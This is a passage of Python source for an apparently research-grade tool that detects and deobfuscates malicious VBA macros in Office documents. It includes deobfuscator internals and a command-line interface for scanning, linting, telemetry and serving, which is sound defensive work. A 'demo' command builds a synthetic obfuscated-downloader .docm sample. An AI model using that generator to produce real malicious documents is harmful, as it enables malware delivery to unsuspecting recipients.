) -> bool:
    return all(_statement_is_pure(s, module, visiting) for s in statements)


def _statement_is_pure(statement, module: ast.Module, visiting: set[str]) -> bool:
    if isinstance(statement, (ast.DimStmt, ast.ExitStmt)):
        return True
    if isinstance(statement, ast.NoOpStmt):
        # MsgBox/SendKeys are UI side effects; only error chatter is pure.
        return statement.text.lower().startswith(("on error", "option", "doevents"))
    if isinstance(statement, ast.ConstStmt):
        return _expression_is_pure(statement.value, module, visiting)
    if isinstance(statement, ast.Assign):
        if isinstance(statement.target, ast.MemberAccess):
            return False
        target_pure = (
            _expression_is_pure(statement.target, module, visiting)
            if isinstance(statement.target, ast.Call)
            else True
        )
        return target_pure and _expression_is_pure(
            statement.value, module, visiting
        )
    if isinstance(statement, ast.IfStmt):
        return all(
            _expression_is_pure(cond, module, visiting)
            and _statements_are_pure(body, module, visiting)
            for cond, body in statement.branches
        ) and _statements_are_pure(statement.else_body, module, visiting)
    if isinstance(statement, ast.ForStmt):
        return (
            _expression_is_pure(statement.start, module, visiting)
            and _expression_is_pure(statement.end, module, visiting)
            and (
                statement.step is None
                or _expression_is_pure(statement.step, module, visiting)
            )
            and _statements_are_pure(statement.body, module, visiting)
        )
    if isinstance(statement, ast.ForEachStmt):
        return _expression_is_pure(
            statement.iterable, module, visiting
        ) and _statements_are_pure(statement.body, module, visiting)
    if isinstance(statement, ast.DoLoopStmt):
        return _expression_is_pure(
            statement.condition, module, visiting
        ) and _statements_are_pure(statement.body, module, visiting)
    if isinstance(statement, ast.CallStmt):
        if isinstance(statement.call, ast.MemberAccess):
            return False
        return _expression_is_pure(statement.call, module, visiting)
    return False


def _expression_is_pure(expression, module: ast.Module, visiting: set[str]) -> bool:
    if isinstance(expression, ast.Literal):
        return True
    if isinstance(expression, ast.Name):
        return True  # local/parameter/const reads are pure
    if isinstance(expression, ast.MemberAccess):
        return False
    if isinstance(expression, ast.UnaryOp):
        return _expression_is_pure(expression.operand, module, visiting)
    if isinstance(expression, ast.BinOp):
        return _expression_is_pure(
            expression.left, module, visiting
        ) and _expression_is_pure(expression.right, module, visiting)
    if isinstance(expression, ast.Call):
        if not all(
            _expression_is_pure(arg, module, visiting) for arg in expression.args
        ):
            return False
        name = expression.name.lower()
        if name in _FOLDABLE_BUILTINS:
            return True
        callee = module.procedures.get(name)
        if callee is not None:
            if name in visiting:
                return True  # recursion: assume pure, the step budget guards
            return _statements_are_pure(callee.body, module, visiting | {name})
        # Could be an array index on a local variable: pure.
        return True
    return False


# ----------------------------------------------------------------------
# Dead-procedure removal


def _drop_unreferenced_procedures(
    module: ast.Module,
    candidates: set[str],
) -> tuple[ast.Module, tuple[str, ...]]:
    """Remove ``candidates`` (evaluated decoder functions) that nothing
    references any more.  Other procedures — including unreferenced public
    functions, which are host-callable entry points — are always kept."""
    references: set[str] = set()

    def visit_expression(expression) -> None:
        if isinstance(expression, ast.Call):
            references.add(expression.name.lower())
            for arg in expression.args:
                visit_expression(arg)
        elif isinstance(expression, ast.BinOp):
            visit_expression(expression.left)
            visit_expression(expression.right)
        elif isinstance(expression, ast.UnaryOp):
            visit_expression(expression.operand)
        elif isinstance(expression, ast.MemberAccess):
            visit_expression(expression.base)
            for arg in expression.args or ():
                visit_expression(arg)
        elif isinstance(expression, ast.Name):
            references.add(expression.name.lower())

    def visit_statement(statement) -> None:
        if isinstance(statement, ast.ConstStmt):
            visit_expression(statement.value)
        elif isinstance(statement, ast.Assign):
            visit_expression(statement.target)
            visit_expression(statement.value)
        elif isinstance(statement, ast.IfStmt):
            for cond, body in statement.branches:
                visit_expression(cond)
                for inner in body:
                    visit_statement(inner)
            for inner in statement.else_body:
                visit_statement(inner)
        elif isinstance(statement, ast.ForStmt):
            visit_expression(statement.start)
            visit_expression(statement.end)
            if statement.step is not None:
                visit_expression(statement.step)
            for inner in statement.body:
                visit_statement(inner)
        elif isinstance(statement, ast.ForEachStmt):
            visit_expression(statement.iterable)
            for inner in statement.body:
                visit_statement(inner)
        elif isinstance(statement, ast.DoLoopStmt):
            visit_expression(statement.condition)
            for inner in statement.body:
                visit_statement(inner)
        elif isinstance(statement, ast.CallStmt):
            visit_expression(statement.call)
        elif isinstance(statement, ast.DimStmt):
            for _, extent in statement.names:
                if extent is not None:
                    visit_expression(extent)

    for statement in module.module_statements:
        visit_statement(statement)
    for key, procedure in module.procedures.items():
        for statement in procedure.body:
            visit_statement(statement)
        # The VBA return convention (``Name = value`` inside the body)
        # self-references every function; that must not keep it alive.
        references.discard(key)

    removed: list[str] = []
    kept = ast.Module()
    # Drop module-level consts that nothing references any more (their
    # fragments were inlined during folding).
    kept.module_statements = [
        statement
        for statement in module.module_statements
        if not (
            isinstance(statement, ast.ConstStmt)
            and statement.name.lower() not in references
        )
    ]
    for key, procedure in module.procedures.items():
        if key in candidates and key not in references:
            removed.append(procedure.name)
        else:
            kept.procedures[key] = procedure
    return kept, tuple(removed)
