"""Command-line interface: ``python -m repro <command>``.

Commands:

* ``extract <file...>``   — dump VBA macro sources from Office documents;
* ``scan <file...>``      — obfuscation verdict per macro + anti-analysis
  findings + simulated multi-vendor AV aggregate;
* ``deobfuscate <file>``  — statically simplify every macro and print the
  recovered source;
* ``demo <out.docm>``     — write a synthetic obfuscated-downloader document
  (for trying the other commands);
* ``reproduce``           — run the paper's Section V evaluation.
"""

from __future__ import annotations

import argparse
import random
import sys


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="Obfuscated VBA macro detection (DSN 2018 reproduction)",
    )
    commands = parser.add_subparsers(dest="command", required=True)

    extract = commands.add_parser("extract", help="dump macro sources")
    extract.add_argument("files", nargs="+")

    scan = commands.add_parser("scan", help="classify macros in documents")
    scan.add_argument("files", nargs="+")
    scan.add_argument(
        "--classifier", default="MLP", choices=("SVM", "RF", "MLP", "LDA", "BNB")
    )
    scan.add_argument(
        "--train-seed", type=int, default=42,
        help="seed for the on-the-fly training corpus",
    )

    deob = commands.add_parser("deobfuscate", help="statically simplify macros")
    deob.add_argument("file")

    demo = commands.add_parser("demo", help="write a sample malicious .docm")
    demo.add_argument("output")
    demo.add_argument("--seed", type=int, default=1337)

    reproduce = commands.add_parser("reproduce", help="run the paper evaluation")
    reproduce.add_argument("--scale", type=float, default=0.12)
    reproduce.add_argument("--folds", type=int, default=10)

    return parser


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    handler = {
        "extract": _cmd_extract,
        "scan": _cmd_scan,
        "deobfuscate": _cmd_deobfuscate,
        "demo": _cmd_demo,
        "reproduce": _cmd_reproduce,
    }[args.command]
    return handler(args)


# ----------------------------------------------------------------------


def _load_macros(path: str):
    from repro.ole.extractor import ExtractionError, extract_macros_from_file

    try:
        return extract_macros_from_file(path)
    except (ExtractionError, OSError) as error:
        print(f"{path}: {error}", file=sys.stderr)
        return None


def _cmd_extract(args) -> int:
    status = 0
    for path in args.files:
        result = _load_macros(path)
        if result is None:
            status = 1
            continue
        print(f"=== {path} ({result.container}, {len(result.modules)} modules) ===")
        for module in result.modules:
            print(f"--- {module.name} ({module.module_type}) ---")
            print(module.source)
        for expression, value in result.document_variables.items():
            print(f"[hidden] {expression} = {value!r}")
    return status


def _train_detector(classifier: str, seed: int):
    from repro import ObfuscationDetector
    from repro.corpus.benign import generate_benign_module
    from repro.corpus.malicious import generate_malicious_macro
    from repro.obfuscation.pipeline import default_pipeline

    rng = random.Random(seed)
    sources, labels = [], []
    for _ in range(150):
        sources.append(
            generate_benign_module(rng, target_length=rng.randint(200, 8000))
        )
        labels.append(0)
    pipeline = default_pipeline()
    for index in range(75):
        plain = generate_malicious_macro(rng, rng.choice(("word", "excel")))
        sources.append(pipeline.run(plain, seed=index).source)
        labels.append(1)
    return ObfuscationDetector(classifier).fit(sources, labels)


def _cmd_scan(args) -> int:
    from repro.avsim.virustotal import VirusTotalSim
    from repro.detect import scan_macro

    print(f"training {args.classifier} detector on synthetic corpus...")
    detector = _train_detector(args.classifier, args.train_seed)
    av = VirusTotalSim()
    status = 0
    for path in args.files:
        result = _load_macros(path)
        if result is None:
            status = 1
            continue
        print(f"\n=== {path} ===")
        any_obfuscated = False
        for module in result.modules:
            probability = float(detector.predict_proba([module.source])[0][1])
            verdict = "OBFUSCATED" if probability >= 0.5 else "normal"
            any_obfuscated |= probability >= 0.5
            print(
                f"  {module.name}: {len(module.source):,} chars -> "
                f"{verdict} (P={probability:.3f})"
            )
            anti = scan_macro(module.source)
            for finding in anti.findings[:5]:
                print(f"    [anti-analysis] {finding.technique}: {finding.detail}")
        report = av.scan(result.sources)
        print(
            f"  AV aggregate: {report.detections}/{report.total_vendors} "
            f"vendors -> {report.verdict.value}"
        )
        if any_obfuscated:
            status = max(status, 2)
    return status


def _cmd_deobfuscate(args) -> int:
    from repro.deobfuscation import deobfuscate

    result = _load_macros(args.file)
    if result is None:
        return 1
    for module in result.modules:
        outcome = deobfuscate(module.source)
        print(f"--- {module.name} ---")
        print(outcome.source)
        report = outcome.report
        print(
            f"' [deobfuscation: {report.folded_expressions} folds, "
            f"{report.decoder_calls_evaluated} decoder calls, "
            f"{len(report.procedures_removed)} procedures removed]"
        )
    return 0


def _cmd_demo(args) -> int:
    from repro.corpus.documents import build_document_bytes
    from repro.corpus.malicious import generate_malicious_macro
    from repro.obfuscation.pipeline import default_pipeline

    rng = random.Random(args.seed)
    plain = generate_malicious_macro(rng, "word")
    obfuscated = default_pipeline().run(plain, seed=args.seed)
    blob = build_document_bytes(
        [obfuscated.source], "docm",
        document_variables=obfuscated.document_variables,
    )
    with open(args.output, "wb") as handle:
        handle.write(blob)
    print(f"wrote {args.output} ({len(blob):,} bytes, 1 obfuscated macro)")
    return 0


def _cmd_reproduce(args) -> int:
    from repro.corpus.builder import CorpusBuilder, paper_profile
    from repro.pipeline.dataset import DatasetBuilder
    from repro.pipeline.experiment import ExperimentRunner
    from repro.pipeline.reporting import render_fig6, render_fig7, render_table3, render_table5

    profile = (
        paper_profile().scaled(args.scale) if args.scale < 1.0 else paper_profile()
    )
    corpus = CorpusBuilder(profile, seed=2016).build()
    dataset = DatasetBuilder().build(corpus.documents, corpus.truth)
    print(render_table3(dataset))
    result = ExperimentRunner(n_splits=args.folds).run(dataset)
    print(render_table5(result))
    print(render_fig6(result))
    print(render_fig7(result))
    return 0


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main())
