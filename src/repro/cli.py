"""Command-line interface: ``python -m repro <command>``.

Commands:

* ``extract <file...>``   — dump VBA macro sources from Office documents;
* ``scan <file...>``      — obfuscation verdict per macro + anti-analysis
  findings + simulated multi-vendor AV aggregate (``--explain`` adds
  line-level lint findings next to each verdict);
* ``lint <file...>``      — rule-based obfuscation findings only: every
  O1–O4/AA rule hit with line, column, severity and message;
* ``deobfuscate <file>``  — statically simplify every macro and print the
  recovered source;
* ``demo <out.docm>``     — write a synthetic obfuscated-downloader document
  (for trying the other commands);
* ``stats <events.jsonl>`` — aggregate a saved ``--trace-out`` trace into
  per-stage p50/p95 latencies and throughput (plus a ``--stage-timeout``
  sizing hint with 2x headroom over the slowest observed stage);
* ``drift <base> <live>`` — compare two saved metrics profiles: PSI over
  the score/lint-rule distributions, standardized mean shift over feature
  columns; exit 2 when any dimension drifted;
* ``slo check <profile>`` — evaluate the declarative latency/error-budget
  objectives (``repro slo show`` prints them; ``--slo FILE`` overrides)
  against a saved profile; exit 2 on any violated objective;
* ``reproduce``           — run the paper's Section V evaluation.

``extract``, ``scan``, and ``lint`` accept files *and directories*
(``--recursive`` walks subdirectories with a ``--max-depth`` guard), run
through the shared staged :class:`~repro.engine.AnalysisEngine`
(``--jobs N`` fans the batch out over a process pool), and support
``--format json`` emitting one JSON record per input file — including
structured error records, so a corrupt document never aborts the batch
(exit code stays 0 for partial success).  ``scan`` and ``lint`` take
``--recover``, inserting the budgeted static string-recovery pass
(:mod:`repro.sa`): decoded strings show up in text output, in the JSON
records (``recovered_strings`` / ``recovery``, schema version 2), in the
``SA`` lint findings and in the ``R`` feature set; ``--sa-budget
strict|default|deep`` picks how hard the folder tries.  ``--stats``
prints a post-run
telemetry summary (per-stage p50/p95, throughput, cache hit rate — merged
across worker processes) to stderr and ``--trace-out FILE`` saves one
JSON-lines event per pipeline span for offline analysis.  The fleet
observability layer rides the same registry: ``--baseline-out FILE``
freezes the run's metric distributions into a profile, ``--baseline
FILE`` scores live traffic against a saved profile as the batch runs
(drift gauges, drift trace events, a summary on stderr), and
``--metrics-port N`` serves Prometheus ``/metrics`` + ``/healthz`` for
the duration of the batch (``--metrics-linger S`` keeps the endpoint up
afterwards for a final scrape).

The batch commands are *resilient* (see :mod:`repro.resilience`): every
document runs under a budget (``--budget strict|default|off`` picks the
preset; ``--timeout`` wall clock per document and ``--stage-timeout``
hard per-stage watchdog override it), a crashed worker indicts exactly
the task it was holding (per-task blame, survivors stay warm) and that
document is retried with capped backoff then quarantined
(``--quarantine-out FILE`` saves the report;
``repro extract --replay REPORT`` re-analyzes exactly those documents
after verifying their digests), and plain archives in the input — zip,
tar, ``tar.gz``, nested one level (zip-in-zip and friends) — expand into
their member documents behind archive-bomb guards (``--no-archives``
disables expansion).  With ``--jobs N`` the batch
streams through a warm worker pool under a bounded admission window
(``--window``).  A hidden ``--chaos`` flag injects faults for drills:
``--chaos hang:doc_007,exit:doc_013``.
"""

from __future__ import annotations

import argparse
import json
import pathlib
import random
import sys


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="Obfuscated VBA macro detection (DSN 2018 reproduction)",
    )
    commands = parser.add_subparsers(dest="command", required=True)

    def add_batch_options(subparser) -> None:
        subparser.add_argument(
            "--jobs", type=int, default=1,
            help="worker processes for batch analysis (default 1)",
        )
        subparser.add_argument(
            "--window", type=int, default=None, metavar="N",
            help="streaming backpressure window: at most N documents "
            "admitted past the pool at once (default max(8, 4*jobs); "
            "only meaningful with --jobs > 1)",
        )
        subparser.add_argument(
            "--format", default="text", choices=("text", "json"),
            help="text report or one JSON record per input file",
        )
        subparser.add_argument(
            "--recursive", "-r", action="store_true",
            help="walk directory arguments recursively",
        )
        subparser.add_argument(
            "--max-depth", type=int, default=8,
            help="recursion depth guard for --recursive (default 8); "
            "deeper subtrees are skipped and counted",
        )
        subparser.add_argument(
            "--stats", action="store_true",
            help="print a post-run telemetry summary (per-stage p50/p95, "
            "throughput, cache hit rate) to stderr",
        )
        subparser.add_argument(
            "--trace-out", metavar="FILE", default=None,
            help="write one JSON-lines event per pipeline span to FILE "
            "(aggregate later with `repro stats FILE`)",
        )
        subparser.add_argument(
            "--budget", default="default", choices=("strict", "default", "off"),
            help="per-document budget preset: 'strict' tightens deadlines and "
            "caps and arms the per-stage watchdog for untrusted inputs, "
            "'off' disables all limits; --timeout/--stage-timeout override "
            "the chosen preset",
        )
        subparser.add_argument(
            "--timeout", type=float, default=None, metavar="SECONDS",
            help="per-document wall-clock budget (default 30; 0 disables)",
        )
        subparser.add_argument(
            "--stage-timeout", type=float, default=None, metavar="SECONDS",
            help="hard per-stage watchdog timeout for hostile inputs "
            "(default off; a hanging stage is abandoned and the record "
            "marked degraded)",
        )
        subparser.add_argument(
            "--quarantine-out", metavar="FILE", default=None,
            help="write a JSON report of quarantined and degraded records",
        )
        subparser.add_argument(
            "--no-archives", action="store_true",
            help="do not expand plain zip/tar archives into their member "
            "documents (expansion is guarded against archive bombs)",
        )
        subparser.add_argument(
            "--baseline-out", metavar="FILE", default=None,
            help="write a baseline metrics profile of this run (classifier "
            "score histogram, lint-rule firing rates, feature-column "
            "summaries) for later `repro drift` / `repro slo check` runs",
        )
        subparser.add_argument(
            "--baseline", metavar="FILE", default=None,
            help="score live traffic against a saved baseline profile while "
            "the batch runs: drift gauges on /metrics, drift events in the "
            "trace, and a drift summary on stderr afterwards",
        )
        subparser.add_argument(
            "--metrics-port", type=int, default=None, metavar="PORT",
            help="serve Prometheus /metrics (+ /healthz) on 127.0.0.1:PORT "
            "while the batch runs (0 picks a free port, printed to stderr)",
        )
        subparser.add_argument(
            "--metrics-linger", type=float, default=0.0, metavar="SECONDS",
            help="keep the --metrics-port endpoint up this long after the "
            "batch finishes, so scrapers can take a final sample",
        )
        # Fault injection for resilience drills; deliberately undocumented.
        subparser.add_argument(
            "--chaos", metavar="SPEC", default=None, help=argparse.SUPPRESS,
            type=_chaos_spec,
        )

    extract = commands.add_parser("extract", help="dump macro sources")
    extract.add_argument("files", nargs="*")
    extract.add_argument(
        "--replay", metavar="REPORT", default=None,
        help="re-analyze the documents a --quarantine-out report "
        "quarantined (each file's digest is verified against the report "
        "before replay; changed files are refused)",
    )
    add_batch_options(extract)

    def add_recover_options(subparser) -> None:
        subparser.add_argument(
            "--recover", action="store_true",
            help="run the budgeted static string-recovery pass (repro.sa): "
            "folds Chr()/StrReverse()/Replace()/concat decoders back into "
            "clear strings, feeds the SA lint rules and the R feature set, "
            "and re-scans recovered strings against the AV signatures",
        )
        subparser.add_argument(
            "--sa-budget", default="default",
            choices=("strict", "default", "deep"),
            help="budget preset for --recover: 'strict' caps harder for "
            "untrusted bulk feeds, 'deep' folds further for single-sample "
            "triage (default: default)",
        )

    scan = commands.add_parser("scan", help="classify macros in documents")
    scan.add_argument("files", nargs="+")
    scan.add_argument(
        "--classifier", default="MLP", choices=("SVM", "RF", "MLP", "LDA", "BNB")
    )
    scan.add_argument(
        "--train-seed", type=int, default=42,
        help="seed for the on-the-fly training corpus",
    )
    scan.add_argument(
        "--explain", action="store_true",
        help="run the lint rules too and show per-class findings "
        "next to each verdict",
    )
    add_recover_options(scan)
    add_batch_options(scan)

    lint = commands.add_parser(
        "lint", help="rule-based obfuscation findings (no classifier)"
    )
    lint.add_argument("files", nargs="+")
    lint.add_argument(
        "--rules", default=None,
        help="comma-separated rule ids to run (default: all registered)",
    )
    add_recover_options(lint)
    add_batch_options(lint)

    deob = commands.add_parser("deobfuscate", help="statically simplify macros")
    deob.add_argument("file")

    demo = commands.add_parser("demo", help="write a sample malicious .docm")
    demo.add_argument("output")
    demo.add_argument("--seed", type=int, default=1337)

    stats = commands.add_parser(
        "stats", help="aggregate a saved --trace-out JSON-lines trace"
    )
    stats.add_argument("trace", help="events.jsonl written by --trace-out")
    stats.add_argument(
        "--format", default="text", choices=("text", "json"),
        help="human table or one JSON object of per-span aggregates",
    )

    drift = commands.add_parser(
        "drift",
        help="compare two saved metrics profiles for distribution drift",
    )
    drift.add_argument(
        "baseline", help="baseline profile written by --baseline-out"
    )
    drift.add_argument(
        "live", help="live/candidate profile to compare against the baseline"
    )
    drift.add_argument(
        "--format", default="text", choices=("text", "json"),
        help="human table or one JSON object of per-dimension scores",
    )
    drift.add_argument(
        "--min-count", type=int, default=20, metavar="N",
        help="observations each side needs before a dimension is graded "
        "(default 20; tiny samples drift by noise alone)",
    )

    slo = commands.add_parser(
        "slo", help="evaluate latency/error-budget SLOs over a profile"
    )
    slo_commands = slo.add_subparsers(dest="slo_command", required=True)
    slo_check = slo_commands.add_parser(
        "check", help="exit 2 when any objective is violated"
    )
    slo_check.add_argument(
        "snapshot", help="metrics profile written by --baseline-out"
    )
    slo_check.add_argument(
        "--slo", dest="slo_file", metavar="FILE", default=None,
        help="JSON SLO config (default: the built-in objectives; "
        "see `repro slo show`)",
    )
    slo_check.add_argument(
        "--format", default="text", choices=("text", "json"),
        help="human table or one JSON object of per-objective results",
    )
    slo_commands.add_parser(
        "show", help="print the built-in objectives as a JSON config"
    )

    reproduce = commands.add_parser("reproduce", help="run the paper evaluation")
    reproduce.add_argument("--scale", type=float, default=0.12)
    reproduce.add_argument("--folds", type=int, default=10)
    reproduce.add_argument("--jobs", type=int, default=1)

    serve = commands.add_parser(
        "serve",
        help="run the analysis HTTP service over a persistent warm pool",
    )
    serve.add_argument("--host", default="127.0.0.1")
    serve.add_argument(
        "--port", type=int, default=8100,
        help="listen port (0 picks a free one, printed to stderr)",
    )
    serve.add_argument(
        "--jobs", type=int, default=2,
        help="warm worker processes behind the gateway (default 2)",
    )
    serve.add_argument(
        "--window", type=int, default=None, metavar="N",
        help="pool admission window (default max(8, 4*jobs))",
    )
    serve.add_argument(
        "--max-queue", type=int, default=64, metavar="N",
        help="shed line: unresolved requests beyond this get 503 (default 64)",
    )
    serve.add_argument(
        "--client-window", type=int, default=8, metavar="N",
        help="max in-flight requests per client IP (default 8)",
    )
    serve.add_argument(
        "--rate", type=float, default=50.0, metavar="R",
        help="per-client sustained requests/s (default 50)",
    )
    serve.add_argument(
        "--burst", type=float, default=100.0, metavar="N",
        help="per-client burst allowance on top of --rate (default 100)",
    )
    serve.add_argument(
        "--default-deadline", type=float, default=30.0, metavar="SECONDS",
        help="request deadline when the client sends none (default 30; "
        "0 disables)",
    )
    serve.add_argument(
        "--max-deadline", type=float, default=120.0, metavar="SECONDS",
        help="cap on client-requested ?deadline_s= (default 120; 0 = no cap)",
    )
    serve.add_argument(
        "--drain-budget", type=float, default=10.0, metavar="SECONDS",
        help="SIGTERM grace: settle in-flight work this long, then "
        "quarantine the rest (default 10)",
    )
    serve.add_argument(
        "--max-body-bytes", type=int, default=32 * 1024 * 1024,
        help="request body cap (default 32 MiB; larger bodies get 413)",
    )
    serve.add_argument(
        "--keepalive-idle", type=float, default=5.0, metavar="SECONDS",
        help="close a kept-alive connection after this much quiet "
        "(default 5)",
    )
    serve.add_argument(
        "--max-requests-per-connection", type=int, default=100, metavar="N",
        help="requests one connection may serve before the server forces "
        "a fresh one (default 100)",
    )
    serve.add_argument(
        "--breaker-threshold", type=int, default=3, metavar="N",
        help="worker deaths inside the breaker window that open the "
        "circuit (default 3)",
    )
    serve.add_argument(
        "--breaker-cooloff", type=float, default=5.0, metavar="SECONDS",
        help="open-state quiet period before half-open probes (default 5)",
    )
    serve.add_argument(
        "--classifier", default="MLP", choices=("SVM", "RF", "MLP", "LDA", "BNB")
    )
    serve.add_argument(
        "--train-seed", type=int, default=42,
        help="seed for the on-the-fly training corpus",
    )
    serve.add_argument(
        "--budget", default="default", choices=("strict", "default", "off"),
        help="per-document budget preset (see scan --budget)",
    )
    serve.add_argument(
        "--timeout", type=float, default=None, metavar="SECONDS",
        help="per-document wall-clock budget override",
    )
    serve.add_argument(
        "--stage-timeout", type=float, default=None, metavar="SECONDS",
        help="per-stage watchdog override (a request ?deadline_s= shorter "
        "than this still wins)",
    )
    serve.add_argument(
        "--trace-out", metavar="FILE", default=None,
        help="write serve/span events as JSON lines at shutdown "
        "(aggregate with `repro stats FILE`)",
    )
    # Fault injection for resilience drills; deliberately undocumented.
    serve.add_argument(
        "--chaos", metavar="SPEC", default=None, help=argparse.SUPPRESS,
        type=_chaos_spec,
    )

    return parser


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    handler = {
        "extract": _cmd_extract,
        "scan": _cmd_scan,
        "lint": _cmd_lint,
        "deobfuscate": _cmd_deobfuscate,
        "demo": _cmd_demo,
        "stats": _cmd_stats,
        "drift": _cmd_drift,
        "slo": _cmd_slo,
        "reproduce": _cmd_reproduce,
        "serve": _cmd_serve,
    }[args.command]
    return handler(args)


# ----------------------------------------------------------------------


def _expand_inputs(
    paths: list[str],
    *,
    recursive: bool = False,
    max_depth: int = 8,
    metrics=None,
) -> list[str]:
    """Expand directory arguments to the (sorted) files they contain.

    With ``recursive`` the walk descends into subdirectories up to
    ``max_depth`` levels below each named directory; anything skipped —
    subtrees beyond the guard, subdirectories without ``recursive``,
    non-regular entries like broken symlinks or sockets — bumps the
    ``walk.skipped`` counter so the ``--stats`` summary reports it.
    """
    from repro.obs import NULL_REGISTRY

    registry = metrics if metrics is not None else NULL_REGISTRY
    expanded: list[str] = []
    skipped = 0

    def walk(directory: pathlib.Path, depth: int) -> None:
        nonlocal skipped
        for child in sorted(directory.iterdir()):
            if child.is_dir() and not child.is_symlink():
                if not recursive or depth >= max_depth:
                    skipped += 1
                else:
                    walk(child, depth + 1)
            elif child.is_file():
                expanded.append(str(child))
            else:
                skipped += 1

    for raw in paths:
        path = pathlib.Path(raw)
        if path.is_dir():
            walk(path, 0)
        else:
            expanded.append(raw)
    if skipped:
        registry.counter("walk.skipped").inc(skipped)
    registry.counter("walk.files").inc(len(expanded))
    return expanded


def _make_registry(args):
    """A live registry when any telemetry consumer asked for one."""
    from repro.obs import NULL_REGISTRY, MetricsRegistry

    if (
        args.stats
        or args.trace_out
        or args.baseline_out
        or args.baseline
        or args.metrics_port is not None
    ):
        return MetricsRegistry(trace=bool(args.trace_out))
    return NULL_REGISTRY


def _attach_observability(args, registry, engine):
    """Wire ``--baseline`` / ``--metrics-port`` attachments onto the engine.

    Returns the running :class:`~repro.obs.export.MetricsServer` (or None).
    Raises ``OSError``/``ValueError`` for an unreadable/invalid baseline or
    an unbindable port — callers turn that into a usage error before any
    document is analyzed.
    """
    if not registry.enabled:
        return None
    window = None
    if args.metrics_port is not None or args.baseline:
        from repro.obs import SlidingWindow

        window = SlidingWindow()
        engine.window = window
    if args.baseline:
        from repro.obs import DriftMonitor, read_profile

        engine.drift_monitor = DriftMonitor(read_profile(args.baseline), registry)
    server = None
    if args.metrics_port is not None:
        from repro.obs import MetricsServer

        server = MetricsServer(registry, window=window, port=args.metrics_port)
        port = server.start()
        print(
            f"metrics: http://127.0.0.1:{port}/metrics "
            f"(healthz: http://127.0.0.1:{port}/healthz)",
            file=sys.stderr,
        )
    return server


def _finish_observability(args, registry, engine) -> None:
    """Final drift evaluation + ``--baseline-out`` profile, post-batch.

    Runs *before* :func:`_finish_telemetry` so the last drift evaluation's
    events make it into the ``--trace-out`` file.
    """
    if not registry.enabled:
        return
    if engine.drift_monitor is not None:
        report = engine.drift_monitor.evaluate()
        print(report.render(), file=sys.stderr)
    if args.baseline_out:
        from repro.obs import capture_profile, write_profile

        documents = registry.histograms.get("span.document")
        profile = capture_profile(
            registry,
            source=f"repro {args.command}",
            documents=int(documents.count) if documents is not None else None,
        )
        write_profile(args.baseline_out, profile)
        print(f"wrote metrics profile to {args.baseline_out}", file=sys.stderr)


def _shutdown_metrics_server(args, server) -> None:
    """Linger (so scrapers catch the final state), then stop the endpoint."""
    if server is None:
        return
    if args.metrics_linger > 0:
        import time

        print(
            f"metrics endpoint lingering {args.metrics_linger:g}s...",
            file=sys.stderr,
        )
        time.sleep(args.metrics_linger)
    server.stop()


def _make_budget(args):
    """The per-document budget: the ``--budget`` preset adjusted by the
    finer-grained flags.  The default preset with no flags is exactly the
    library default, byte for byte."""
    import dataclasses

    from repro.resilience import BUDGET_PRESETS

    budget = BUDGET_PRESETS[getattr(args, "budget", "default")]
    if args.timeout is not None:
        budget = dataclasses.replace(
            budget, wall_clock_s=args.timeout if args.timeout > 0 else None
        )
    if args.stage_timeout is not None:
        budget = dataclasses.replace(
            budget,
            stage_timeout_s=args.stage_timeout if args.stage_timeout > 0 else None,
        )
    return budget


def _chaos_spec(spec: str):
    """Parse ``--chaos kind:pattern[,...]`` at argparse time, so a bad spec
    is a usage error rather than a traceback mid-batch."""
    from repro.resilience import FaultPlan

    try:
        return FaultPlan.parse(spec)
    except ValueError as error:
        raise argparse.ArgumentTypeError(str(error)) from None


def _make_chaos(args):
    """The hidden fault-injection plan, or None."""
    return args.chaos or None


def _make_sa_budget(args):
    """The ``--sa-budget`` preset for the recover stage (None when off)."""
    from repro.sa import SA_BUDGET_PRESETS

    return SA_BUDGET_PRESETS[getattr(args, "sa_budget", "default")]


#: Zip local/central/empty magics — enough to decide "read the whole file".
_ZIP_MAGICS = (b"PK\x03\x04", b"PK\x05\x06", b"PK\x07\x08")

_GZIP_MAGIC = b"\x1f\x8b"
#: Offset of the ``ustar`` magic in a POSIX tar header; sniffing tars
#: therefore needs the first 262 bytes of the file.
_TAR_MAGIC_OFFSET = 257
_SNIFF_BYTES = _TAR_MAGIC_OFFSET + 5


def _archive_candidate(head: bytes) -> bool:
    """Cheap magic sniff: worth reading the whole file for expansion?"""
    return (
        head[:4] in _ZIP_MAGICS
        or head[:2] == _GZIP_MAGIC
        or head[_TAR_MAGIC_OFFSET:_SNIFF_BYTES] == b"ustar"
    )


def _prepare_entries(args, registry) -> list[tuple[str, object]]:
    """Expand directories and archives into tagged batch entries.

    Returns ``("input", item)`` entries the engine should analyze (paths
    or ``(source_id, bytes)`` pairs — archive members arrive as pairs with
    ``archive!member`` ids, nested one level for archive-in-archive feeds)
    and ``("record", DocumentRecord)`` entries that already failed (an
    archive a bomb guard refused).  Zip, tar, and ``tar.gz`` feeds all
    expand; Office documents (OOXML zips) always analyze as-is.
    """
    paths = _expand_inputs(
        args.files,
        recursive=args.recursive,
        max_depth=args.max_depth,
        metrics=registry,
    )
    entries: list[tuple[str, object]] = []
    for path in paths:
        try:
            with open(path, "rb") as handle:
                head = handle.read(_SNIFF_BYTES)
        except OSError:
            entries.append(("input", path))  # the engine records the error
            continue
        if args.no_archives or not _archive_candidate(head):
            entries.append(("input", path))
            continue
        from repro.resilience import (
            ArchiveBombError,
            expand_archive,
            is_plain_archive,
            is_tar_archive,
        )

        with open(path, "rb") as handle:
            data = handle.read()
        if not (is_plain_archive(data) or is_tar_archive(data)):
            # An Office zip (or a non-archive gzip): analyze as-is.
            entries.append(("input", (path, data)))
            continue
        try:
            members = expand_archive(path, data, metrics=registry)
        except ArchiveBombError as error:
            from repro.engine.records import DocumentRecord, sha256_hex

            record = DocumentRecord(source_id=path, sha256=sha256_hex(data))
            record.degrade("archive", f"archive refused: {error}")
            if registry.enabled:
                registry.counter("archive.rejected").inc()
            entries.append(("record", record))
            continue
        entries.extend(("input", member) for member in members)
    return entries


def _replay_entries(args, registry) -> list[tuple[str, object]]:
    """Tagged batch entries for ``--replay REPORT``.

    Each quarantined document is re-read and its digest verified against
    the report before replay; a file that changed (or vanished) since
